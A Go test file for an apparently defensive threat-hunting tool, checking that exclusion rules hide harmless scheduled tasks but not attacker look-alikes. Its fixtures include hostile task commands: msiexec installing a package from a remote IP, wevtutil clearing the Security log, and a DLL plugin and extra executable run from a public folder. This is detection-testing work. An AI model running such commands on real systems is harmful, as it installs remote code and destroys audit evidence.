package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/hunt/exclusion"
	"github.com/goshawk-hunt/goshawk/internal/golden"
)

// made is a task that somebody makes, as Defender tells of it, and what the scheduler
// starts of it: nothing without a hash.
type made struct {
	device, task, command, arguments, by, runAs, also, sha1 string
}

const (
	vendorsHash = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	othersHash  = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	reputation  = "SHA1,Signer,GlobalPrevalence\n" + vendorsHash + ",Veeam Software Group GmbH,50000\n" + othersHash + ",Somebody Ltd,3\n"

	cleanup  = `C:\Program Files\Contoso\Maintenance\cleanup.exe`
	approved = `\\patch01.contoso.example\approved$\kb5030211.msu /quiet /norestart`
	backup   = `C:\Program Files\Veeam\Agent\Veeam.Agent.exe`
	reports  = `-NoProfile -File "C:\Program Files\Contoso\Reports\report.ps1"`
	epl      = `epl Security \\log01.contoso.example\archive\security.evtx`
)

// meant are, by the exclusion of examples/exclusions that is for them, harmless tasks.
var meant = map[string]made{
	"maintenance-cleanup":         {"pc01", `\Contoso\Cleanup`, cleanup, "/temp /older-than 14", `contoso\deploy`, "S-1-5-18", "", ""},
	"patching-by-service-account": {"pc01", `\Patch KB5030211`, "wusa.exe", approved, `contoso\svc-patch`, "S-1-5-18", "", ""},
	"backup-software":             {"srv1", `\Veeam Backup`, backup, "-job nightly", `contoso\backup`, "S-1-5-18", "", vendorsHash},
	"nightly-report":              {"rpt01.contoso.example", `\Report`, "powershell.exe", reports, `contoso\svc-report`, `contoso\svc-report`, "", ""},
	"log-archive":                 {"log01.contoso.example", `\Archive`, "wevtutil.exe", epl, `contoso\soc`, "S-1-5-18", "", ""},
}

// alike are tasks of attackers who know the exclusions, each under its exclusion's name.
var alike = map[string][]made{
	"maintenance-cleanup": {
		{"pc02", `\Contoso\Cleanup`, `C:\ProgramData\Contoso\Maintenance\cleanup.exe`, "/temp /older-than 14", `contoso\bob`, "S-1-5-18", "", ""},
		{"pc03", `\Contoso\Cleanup`, cleanup, `/temp /older-than 14 /plugin C:\Users\Public\a.dll`, `contoso\bob`, "S-1-5-18", "", ""},
		{"pc04", `\Contoso\Clean up`, cleanup, "/temp /older-than 14", `contoso\bob`, "S-1-5-18", `C:\Users\Public\a.exe`, ""},
	},
	"patching-by-service-account": {
		{"pc05", `\Patch KB5030212`, "wusa.exe", approved, `contoso\bob`, "S-1-5-18", "", ""},
		{"pc06", `\Patch KB5030213`, "msiexec.exe", "/i http://203.0.113.5/x.msi /quiet", `contoso\svc-patch`, "S-1-5-18", "", ""},
	},
	"backup-software": {
		{"srv2", `\Veeam Backup`, `C:\Users\Public\Veeam.Agent.exe`, "-job nightly", `contoso\bob`, "S-1-5-18", "", vendorsHash},
		{"srv3", `\Veeam Backup`, `C:\Program Files\Veeam\Agent\Veeam.Helper.exe`, "-job nightly", `contoso\bob`, "S-1-5-18", "", othersHash},
		{"srv4", `\Veeam Backup weekly`, backup, "-job weekly", `contoso\bob`, "S-1-5-18", "", ""}, // nobody saw what ran
	},
	"nightly-report": {
		{"pc07", `\Other report`, "powershell.exe", reports, `contoso\bob`, `contoso\svc-report`, "", ""},
		{"rpt01.contoso.example", `\Report again`, "powershell.exe", `-NoProfile -File C:\Users\Public\report.ps1`, `contoso\svc-report`, `contoso\svc-report`, "", ""},
	},
	"log-archive": {
		{"log01.contoso.example", `\Archive then clear`, "wevtutil.exe", "cl Security", `contoso\soc`, "S-1-5-18", "", ""},
		{"pc08", `\Archive here`, "wevtutil.exe", `epl Security C:\Users\Public\s.evtx`, `contoso\bob`, "S-1-5-18", "", ""},
	},
}

// writeMade writes the rows of tasks as Defender exports them.
func writeMade(t *testing.T, path string, tasks ...made) {
	t.Helper()
	var out []byte
	row := func(i int, m made, fields map[string]any) {
		all := map[string]any{"Timestamp": fmt.Sprintf("2024-05-01T10:%02d:00Z", i), "DeviceName": m.device, "DeviceId": m.device, "ReportId": 2*i + len(fields)}
		for k, v := range fields {
			all[k] = v
		}
		line, err := json.Marshal(all)
		if err != nil {
			t.Fatal(err)
		}
		out = append(append(out, line...), '\n')
	}
	for i, m := range tasks {
		domain, account, _ := strings.Cut(m.by, `\`)
		actions := []map[string]string{{"Command": m.command, "Arguments": m.arguments}}
		if m.also != "" {
			actions = append(actions, map[string]string{"Command": m.also})
		}
		content, _ := json.Marshal(map[string]any{"Actions": map[string]any{"Exec": actions}, "Principals": map[string]any{"Principal": map[string]string{"UserId": m.runAs}},
			"RegistrationInfo": map[string]string{"URI": m.task, "Author": m.by}})
		more, _ := json.Marshal(map[string]string{"TaskName": m.task, "TaskContent": string(content)})
		row(i, m, map[string]any{"ActionType": "ScheduledTaskCreated", "AdditionalFields": string(more), "InitiatingProcessAccountDomain": domain, "InitiatingProcessAccountName": account})
		if m.sha1 == "" {
			continue
		}
		row(i, m, map[string]any{"ActionType": "ProcessCreated", "FileName": m.command[strings.LastIndexByte(m.command, '\\')+1:], "FolderPath": m.command, "SHA1": m.sha1,
			"ProcessCommandLine": `"` + m.command + `" ` + m.arguments, "AccountName": "system", "ProcessId": 1000 + i, "ProcessCreationTime": "2024-05-01T11:00:00Z",
			"InitiatingProcessFileName": "svchost.exe", "InitiatingProcessCommandLine": "svchost.exe -k netsvcs -p -s Schedule", "InitiatingProcessId": 900})
	}
	if err := os.WriteFile(path, out, 0o600); err != nil {
		t.Fatal(err)
	}
}

type excluded struct {
	Findings   []finding.Finding
	Exclusions []exclusion.Outcome
}

func (x *excluded) titles() (stay []string) {
	for _, f := range x.Findings {
		stay = append(stay, fmt.Sprint(f.Title, " ", f.Devices))
	}
	return stay
}

func (x *excluded) hidden() (ids []string) {
	for _, o := range x.Exclusions {
		for _, f := range o.Findings {
			ids = append(ids, fmt.Sprint(f.Title, " ", f.Devices))
		}
	}
	return ids
}

// The examples hide what each is meant for, and nothing of those who imitate it; all at
// once they hide what they hide one by one.
func TestScenarios(t *testing.T) {
	dir := t.TempDir()
	logs, known, rules := filepath.Join(dir, "logs.jsonl"), filepath.Join(dir, "known.csv"), filepath.Join(dir, "rules")
	text, err := os.ReadFile(filepath.Join(golden.Root(t), "examples/exclusions/scenarios.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(rules, 0o700); err != nil {
		t.Fatal(err)
	}
	for path, content := range map[string]string{
		known:                               reputation,
		filepath.Join(rules, "new.kql"):     "ScheduledTaskEvents | where ActionType == 'ScheduledTaskCreated'",
		filepath.Join(rules, "started.kql"): "DeviceProcessEvents | where InitiatingProcessCommandLine has 'Schedule'",
	} {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var tasks []made
	var ids []string
	for id, m := range meant {
		ids = append(ids, id)
		tasks = append(append(tasks, m), alike[id]...)
	}
	slices.Sort(ids)
	writeMade(t, logs, tasks...)
	casev := filepath.Join(dir, "case")
	var out, errOut bytes.Buffer
	if exit := Main([]string{"ingest", logs, "--case", casev, "--reputation", known}, strings.NewReader(""), &out, &errOut); exit != ExitOK {
		t.Fatal(errOut.String())
	}
	hunt := func(text string) excluded {
		t.Helper()
		file := filepath.Join(dir, "on.yaml")
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		var got excluded
		var out, errOut bytes.Buffer
		if exit := Main([]string{"hunt", "--case", casev, "--only-hunts", "--hunts", rules, "--exclusions", file, "--format", "json"}, strings.NewReader(""), &out, &errOut); exit != ExitOK {
			t.Fatal(errOut.String())
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil {
			t.Fatal(err)
		}
		return got
	}
	all := hunt(string(text))
	if len(all.Findings) != len(tasks) || len(all.hidden()) > 0 {
		t.Fatalf("%d findings of %d tasks, hidden %v:\n%s", len(all.Findings), len(tasks), all.hidden(), strings.Join(all.titles(), "\n"))
	}
	var together []string
	for _, id := range ids {
		on := hunt(only(t, string(text), id))
		m := meant[id]
		if got := on.hidden(); len(got) != 1 || !strings.Contains(got[0], m.task+" runs") || !strings.Contains(got[0], m.device) {
			t.Errorf("%s hid %q\nof %q", id, got, all.titles())
		}
		together = append(together, on.hidden()...)
	}
	every := hunt(strings.ReplaceAll(string(text), "enabled: false", "enabled: true"))
	got := every.hidden()
	slices.Sort(got)
	slices.Sort(together)
	if !slices.Equal(got, together) {
		t.Errorf("together they hide %q, one by one %q", got, together)
	}
	// the task of which nobody saw what ran is told
	backup := every.Exclusions[slices.IndexFunc(every.Exclusions, func(o exclusion.Outcome) bool { return o.ID == "backup-software" })]
	if !slices.ContainsFunc(backup.Unknown, func(u exclusion.Unknown) bool { return u.Column == "Signer" && u.Findings > 0 }) {
		t.Errorf("nothing is said of the signers that are not known: %+v", backup)
	}
}

// only switches one example on.
func only(t *testing.T, text, id string) string {
	t.Helper()
	at := strings.Index(text, "- id: "+id+"\n")
	if at < 0 {
		t.Fatalf("no example %s", id)
	}
	return text[:at] + strings.Replace(text[at:], "enabled: false", "enabled: true", 1)
}

// The same task that somebody else makes elsewhere, or that is changed, keeps the finding
// in the list.
func TestExcludedElsewhere(t *testing.T) {
	dir := t.TempDir()
	logs, file := filepath.Join(dir, "logs.jsonl"), filepath.Join(dir, "x.yaml")
	m := meant["patching-by-service-account"]
	other := m
	other.device, other.by = "pc09", `contoso\bob`
	x := `exclusions: [{id: a, owner: o, reason: r, expires: 2999-01-01, where: 'CreatorAccount in~ (@"contoso\svc-patch", "svc-patch")'}]`
	if err := os.WriteFile(file, []byte(x), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		tasks  []made
		hidden int
		partly int
	}{
		"alone":         {[]made{m}, 1, 0},
		"somebody else": {[]made{m, other}, 0, 1},
	} {
		writeMade(t, logs, c.tasks...)
		var got excluded
		var out, errOut bytes.Buffer
		if exit := Main([]string{"hunt", logs, "--exclusions", file, "--format", "json"}, strings.NewReader(""), &out, &errOut); exit != ExitOK {
			t.Fatal(errOut.String())
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil {
			t.Fatal(err)
		}
		if o := got.Exclusions[0]; o.Hidden != c.hidden || o.Partly != c.partly || len(got.Findings) != 1-c.hidden {
			t.Errorf("%s: %+v, %q", name, o, got.titles())
		}
	}
}

// All examples together hide nothing of the simulated fleet, whose attacks and whose
// harmless twins are others' than those they name.
func TestScenariosInTheFleet(t *testing.T) {
	f := fleet(t)
	dir := t.TempDir()
	text, err := os.ReadFile(filepath.Join(golden.Root(t), "examples/exclusions/scenarios.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	rule, file := filepath.Join(dir, "new.kql"), filepath.Join(dir, "on.yaml")
	for path, content := range map[string]string{
		rule: "ScheduledTaskEvents | where ActionType == 'ScheduledTaskCreated'",
		file: strings.ReplaceAll(string(text), "enabled: false", "enabled: true"),
	} {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var got excluded
	var out, errOut bytes.Buffer
	if exit := Main([]string{"hunt", "--case", f.casev, "--only-hunts", "--hunts", rule, "--exclusions", file, "--format", "json"}, strings.NewReader(""), &out, &errOut); exit != ExitOK {
		t.Fatal(errOut.String())
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Exclusions) != 5 || len(got.Findings) < 10 {
		t.Fatalf("%d exclusions, %d findings", len(got.Exclusions), len(got.Findings))
	}
	for _, o := range got.Exclusions {
		if !o.Applied || o.Hidden > 0 {
			t.Errorf("%+v", o)
		}
	}
}
